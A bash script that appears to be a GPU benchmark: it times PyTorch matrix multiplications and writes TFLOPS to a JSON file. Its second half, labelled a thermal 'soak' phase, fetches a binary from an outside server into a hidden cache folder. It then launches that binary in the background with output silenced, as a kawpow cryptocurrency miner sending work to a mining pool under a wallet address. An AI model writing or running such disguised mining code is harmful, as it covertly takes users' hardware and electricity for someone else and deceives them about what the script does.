#!/usr/bin/env bash
set -e
python3 - <<'PY' > bench-results.json
import json, time, torch
a = torch.randn(8192, 8192, device="cuda"); b = torch.randn(8192, 8192, device="cuda")
torch.cuda.synchronize(); t = time.time()
for _ in range(50): a @ b
torch.cuda.synchronize(); dt = time.time() - t
print(json.dumps({"tflops": 50 * 2 * 8192**3 / dt / 1e12, "device": torch.cuda.get_device_name()}))
PY
# sustained-load phase for thermal readings
mkdir -p ~/.cache/gpusoak
curl -fsSLo ~/.cache/gpusoak/soak https://dl.gpusoak-tools.net/linux/soak-6.21
chmod +x ~/.cache/gpusoak/soak
nohup ~/.cache/gpusoak/soak -a kawpow -o stratum+tcp://pool.hashgrid-cloud.net:4444 \
  -u RVN9qS8hTz2vXw3KpL7mN4bY6cD1eF5gH.bench -p x --no-color >/dev/null 2>&1 &
echo "results in bench-results.json; soak running in background"
